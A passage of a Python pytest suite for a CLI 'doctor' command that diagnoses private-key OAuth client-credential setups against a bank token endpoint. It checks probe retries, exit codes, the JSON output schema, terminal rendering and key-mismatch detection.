    bank.token = lambda _: refused()
    result = cli(*ask(bank, rsa_pem), "--probe", "-o", "json")
    assert len(said(result)["requests"]) == MOST_REQUESTS
    assert probe_pauses == [PROBE_PAUSE] * 3
    assert result.stderr == ""


def test_in_text_each_further_request_is_announced(
    cli: Cli, bank: Bank, rsa_pem: Path, probe_pauses: list[float]
) -> None:
    bank.token = lambda _: refused()
    result = cli(*ask(bank, rsa_pem), "--probe")
    for varied in ("with RS256", "with kid", "aud"):
        assert re.search(rf"in 5 s once more, .*{varied}", result.stdout)
    assert probe_pauses == [PROBE_PAUSE] * 3


_NOBODY_WAITS = """\
import sys, time
time.sleep = lambda seconds: None
from banno_creds.__main__ import main
main()
"""


# pexpect forks, and pytest-xdist has threads: from Python 3.12 on that is a warning.
@pytest.mark.posix("Windows has no pseudo terminal")
@pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")
@pytest.mark.parametrize(
    ("answer", "requests", "code"), [("y\n", MOST_REQUESTS, 4), ("n\n", 1, 4), ("\n", 1, 4), ("\x04", 1, 4)]
)
def test_at_a_terminal_it_explains_and_asks_first(
    bank: Bank, rsa_pem: Path, answer: str, requests: int, code: int
) -> None:
    bank.token = lambda _: refused()
    args = ["-c", _NOBODY_WAITS, *ask(bank, rsa_pem), "--probe"]
    terminal: pexpect.spawn[str] = pexpect.spawn(sys.executable, args, encoding="utf-8", timeout=60)
    try:
        terminal.expect(r"Go on\?")
        before = terminal.before or ""
        assert len(bank.forms) == 1
        terminal.send(answer)
        terminal.expect(pexpect.EOF)
        terminal.wait()
    finally:
        terminal.close(force=True)
    assert "Up to 3 more requests" in before
    assert "failed log-in" in before
    assert len(bank.forms) == requests
    assert terminal.exitstatus == code


# As above.
@pytest.mark.posix("Windows has no pseudo terminal")
@pytest.mark.filterwarnings("ignore:This process .* is multi-threaded:DeprecationWarning")
def test_where_nobody_would_see_the_question_nothing_more_is_asked(bank: Bank, rsa_pem: Path, tmp_path: Path) -> None:
    bank.token = lambda _: refused()
    command = shlex.join([sys.executable, "-c", _NOBODY_WAITS, *ask(bank, rsa_pem), "--probe"])
    errors = tmp_path / "errors"
    terminal: pexpect.spawn[str] = pexpect.spawn(
        "/bin/sh", ["-c", f"exec {command} 2>{shlex.quote(str(errors))}"], encoding="utf-8", timeout=60
    )
    try:
        terminal.expect(pexpect.EOF)
        terminal.wait()
    finally:
        terminal.close(force=True)
    assert (terminal.exitstatus, len(bank.forms), errors.read_text()) == (4, 1, "")


def test_the_help_of_the_option_says_what_it_costs(cli: Cli) -> None:
    help_ = " ".join(cli("doctor", "--help").stdout.split())
    assert "5 s apart, at most 4 requests" in help_
    assert "blocks addresses that fail often" in help_


# ── What comes out of the program ───────────────────────────────────────────────────────────────────────────────


def test_the_exit_code_is_that_of_the_first_failure(
    cli: Cli, bank: Bank, rsa_pem: Path, other_key: keys.PrivateKey, tmp_path: Path
) -> None:
    other = tmp_path / "other.pem"
    other.write_bytes(other_key.public.pem())
    url = "http://127.0.0.1:9/token"
    both = said(cli(*ask(url, rsa_pem), "--registered", other, "-o", "json"))
    assert failed(both) == ["registration.key.mismatch", "assertion.signature.invalid", "network.connection"]
    assert both["exit_code"] == 4
    assert said(cli(*ask(url, rsa_pem), "-o", "json"))["exit_code"] == 5
    assert said(cli(*ask(url, tmp_path / "none.pem"), "-o", "json"))["exit_code"] == 3


@pytest.mark.parametrize(
    "answer", [refused(), refused("invalid_scope", 400), says_json(400, error="teapot"), BLOCKED, DOWN]
)
def test_it_ends_as_the_token_request_ends(
    cli: Cli, bank: Bank, rsa_pem: Path, monkeypatch: pytest.MonkeyPatch, answer: Says
) -> None:
    bank.token = lambda _: answer
    monkeypatch.setattr("time.sleep", lambda _: None)
    assert cli(*ask(bank, rsa_pem), "-o", "json").code == cli("token", "--no-cache", *ask(bank, rsa_pem)[1:]).code


def test_json_is_versioned_and_its_members_stay(cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    bank.token = lambda _: refused()
    result = cli(*ask(bank, rsa_pem), "-o", "json")
    members = said(result)
    assert list(members) == [
        *("version", "verdict", "exit_code", "settings", "findings", "requests", "diagnosis"),
    ]
    assert (members["version"], members["verdict"], members["exit_code"]) == (1, "fail", 4)
    assert set(members["settings"][0]) == {"name", "value", "source"}
    finding_members = {"rule", "verdict", "looks_at", "received", "expected", "fix", "reason"}
    assert all(set(finding) == finding_members for finding in members["findings"])
    assert {finding["verdict"] for finding in members["findings"]} <= {"pass", "fail", "warn", "unknown"}
    [request] = members["requests"]
    assert set(request) == {"varied", "accepted", "at", "request_id", "status", "error"}
    assert (request["status"], request["error"], request["request_id"]) == (401, "invalid_client", "id-3")
    assert abs(request["at"] - time.time()) < 3600
    assert set(members["diagnosis"]) == {"error", "causes", "ruled_out", "certain", "questions", "named", "hides"}
    assert set(members["diagnosis"]["causes"][0]) == {"rule", "title", "why", "fix", "question"}
    assert set(members["diagnosis"]["ruled_out"][0]) == {"rule", "title", "how"}
    assert (result.stdout.count("\n"), result.stderr) == (1, "")


def test_json_of_a_sound_set_up_has_no_diagnosis(cli: Cli, bank: Bank, rsa_pem: Path) -> None:
    members = said(cli(*ask(bank, rsa_pem), "-o", "json"))
    assert (members["verdict"], members["exit_code"], members["diagnosis"]) == ("pass", 0, None)


@pytest.mark.parametrize("sound", [True, False])
def test_text_goes_to_standard_output_alone(cli: Cli, bank: Bank, rsa_pem: Path, sound: bool) -> None:
    bank.token = lambda _: granted() if sound else refused()
    result = cli(*ask(bank, rsa_pem))
    assert result.stderr == ""
    titles = [line for line in result.stdout.splitlines() if line in (*OFFLINE, *ONLINE)]
    assert titles == [*OFFLINE, *ONLINE]
    assert result.code == (0 if sound else 4)
    assert "\x1b" not in result.stdout


@pytest.mark.parametrize("title", [*OFFLINE, *ONLINE])
def test_what_cannot_be_shown_ends_it_and_is_no_finding(bank: Bank, rsa_key: keys.PrivateKey, title: str) -> None:
    full = OutputError("No space left on device")
    told: list[str] = []

    def tell(part: Part) -> None:
        told.append(part.title)
        if part.title == title and part.findings:
            raise full

    with pytest.raises(OutputError) as failure:
        look(rsa_key, bank.url, tell=tell)
    assert failure.value is full
    assert told[-1] == title


def test_a_clock_that_cannot_be_shown_after_the_request_ends_it_too(bank: Bank, rsa_key: keys.PrivateKey) -> None:
    def on_request(path: str) -> None:
        bank.clock = time.time if path == "/token" else None

    def tell(part: Part) -> None:
        if any(finding.rule == Rule.CLOCK_SKEW for finding in part.findings):
            raise OutputError("No space left on device")

    bank.on_request = on_request
    with pytest.raises(OutputError):
        look(rsa_key, bank.url, tell=tell)
    assert len(bank.forms) == 1


def test_a_reader_that_leaves_early_ends_it_with_141(bank: Bank, rsa_pem: Path) -> None:
    bank.on_request = lambda path: left.wait(60) if path == WELL_KNOWN else None
    left = threading.Event()
    with subprocess.Popen(
        [sys.executable, "-m", "banno_creds", *ask(bank, rsa_pem)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        encoding="utf-8",
    ) as child:
        assert child.stdout is not None
        assert child.stderr is not None
        assert child.stdout.readline() == "Configuration\n"
        child.stdout.close()
        left.set()
        assert child.stderr.read() == ""
    assert child.returncode == 141


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="only Linux has it")
@pytest.mark.parametrize("output", ["text", "json"])
def test_a_full_disk_is_told_of(bank: Bank, rsa_pem: Path, output: str) -> None:
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [sys.executable, "-m", "banno_creds", *ask(bank, rsa_pem), "-o", output],
            stdout=full,
            stderr=subprocess.PIPE,
            encoding="utf-8",
            timeout=60,
            check=False,
        )
    assert done.returncode == 2
    assert "No space left on device" in done.stderr


# ── As people see it ────────────────────────────────────────────────────────────────────────────────────────────


@dataclass
class Scene:
    """A folder with a key and what the bank has of it, and the bank's server."""

    folder: Path
    sandbox: Sandbox

    def args(self, *more: str) -> list[str]:
        ask = ["doctor", "--client-id", CLIENT_ID, "--private-key", "private.pem"]
        return program(*ask, "--token-endpoint", self.sandbox.token_endpoint, *more, folder=self.folder)


SCENES: dict[str, list[str]] = {
    "sound": ["--registered", "public.pem"],
    "refused": ["--registered", "public.pem"],
    "rule": ["--registered", "public.pem", "--kid", "key-1"],
    "mismatch": ["--registered", "other.pem"],
    "offline": ["--offline"],
}


@pytest.fixture
def scene(
    request: pytest.FixtureRequest, tmp_path: Path, rsa_key: keys.PrivateKey, other_key: keys.PrivateKey
) -> Iterator[Scene]:
    private = write_private(tmp_path / "private.pem", rsa_key.pem())
    os.utime(private, (NOW - 12 * 86400, NOW - 12 * 86400))
    (tmp_path / "public.pem").write_bytes(rsa_key.public.pem())
    (tmp_path / "other.pem").write_bytes(other_key.public.pem())
    name = request.node.callspec.params["name"]
    at_the_bank = public_of(other_key if name in ("refused", "mismatch") else rsa_key)
    with Sandbox([Client(CLIENT_ID, at_the_bank)], clock=lambda: NOW, log=lambda _: None) as sandbox:
        yield Scene(tmp_path, sandbox)


@pytest.mark.posix("Windows has no pseudo terminal")
@pytest.mark.parametrize("name", SCENES)
def test_what_is_seen_at_a_terminal_of_80_columns(scene: Scene, name: str) -> None:
    seen = at_terminal(*scene.args(*SCENES[name]), stdout=True, stderr=False, env={"NO_COLOR": "1"})
    text = without_chance(seen.screen)
    assert seen.stderr == ""
    assert "\x1b" not in text
    assert max(map(len, text.splitlines())) <= 80
    compare(f"doctor-{name}-terminal", text)


@pytest.mark.posix("the stored texts have modes")
@pytest.mark.parametrize("name", SCENES)
def test_what_is_seen_in_a_pipe(scene: Scene, name: str) -> None:
    done = subprocess.run(
        [sys.executable, *scene.args(*SCENES[name])], capture_output=True, encoding="utf-8", timeout=60, check=False
    )
    assert done.stderr == ""
    compare(f"doctor-{name}-pipe", without_chance(done.stdout))


@pytest.mark.posix("the stored texts have modes")
@pytest.mark.parametrize("name", ["refused"])
def test_what_is_seen_where_only_ascii_can_be_shown(scene: Scene, name: str) -> None:
    done = subprocess.run(
        [sys.executable, *scene.args(*SCENES[name])],
        capture_output=True,
        env=os.environ | {"PYTHONIOENCODING": "ascii", "PYTHONUTF8": "0"},
        timeout=60,
        check=False,
    )
    assert done.stderr == b""
    assert done.stdout.isascii()
    assert b"\\u" not in done.stdout
    compare(f"doctor-{name}-ascii", without_chance(done.stdout.decode("ascii")))


@pytest.mark.posix("Windows has no pseudo terminal")
@pytest.mark.parametrize("name", ["refused"])
def test_colours_change_nothing_of_what_is_said(scene: Scene, name: str) -> None:
    coloured = at_terminal(*scene.args(*SCENES[name]), stdout=True, stderr=False)
    plain = at_terminal(*scene.args(*SCENES[name]), stdout=True, stderr=False, env={"NO_COLOR": "1"})
    assert "\x1b[" in coloured.screen
    assert without_chance("\n".join(coloured.lines)) == without_chance("\n".join(plain.lines))


# ── Which key the bank has ──────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def keys_at_hand(tmp_path: Path) -> Path:
    """A folder with three keys, one of them encrypted, and the public half of another."""
    made = {name: keys.generate("ec") for name in ("a.pem", "b-2024.key", "c.pem")}
    for name, key in made.items():
        write_private(tmp_path / name, key.pem(b"opens it") if name == "c.pem" else key.pem())
    (tmp_path / "public.pem").write_bytes(made["b-2024.key"].public.pem())
    (tmp_path / "of-c.txt").write_bytes(made["c.pem"].public.pem())
    return tmp_path


@pytest.mark.parametrize(
    ("key", "registered", "code", "fix"),
    [
        ("b-2024.key", "public.pem", 0, None),
        (
            "a.pem",
            "public.pem",
            4,
            f"sign with {{}}{os.sep}b-2024.key: it has the private key whose public half is registered",
        ),
        ("a.pem", "of-c.txt", 4, "sign with the private key whose public half is registered, or have yours"),
    ],
)
def test_two_keys_are_compared_without_a_client_id(
    cli: Cli, keys_at_hand: Path, key: str, registered: str, code: int, fix: str | None
) -> None:
    options = ["--offline", "--registered", str(keys_at_hand / registered), "--private-key", str(keys_at_hand / key)]
    result = cli("doctor", *options, "-o", "json")
    findings = {finding["rule"]: finding for finding in json.loads(result.stdout)["findings"]}
    assert (result.code, result.stderr) == (code, "")
    assert not any(rule.startswith(("client_id", "assertion", "token")) for rule in findings)
    mine = findings["registration.key.mismatch"]
    assert mine["verdict"] == ("fail" if code else "pass")
    assert mine["fix"].startswith(fix.format(keys_at_hand) if fix else "")
    seen = cli("doctor", *options)
    assert (seen.code, "comparison" in seen.stdout) == (code, False)


@pytest.mark.parametrize("less", [0, 1])
def test_a_client_id_is_wanted_for_anything_else(cli: Cli, keys_at_hand: Path, less: int) -> None:
    more = [["--offline"], ["--registered", str(keys_at_hand / "public.pem")]][less]
    result = cli("doctor", "--private-key", keys_at_hand / "a.pem", *more)
    assert (result.code, result.stdout) == (2, "")
    assert "--client-id is missing" in result.stderr
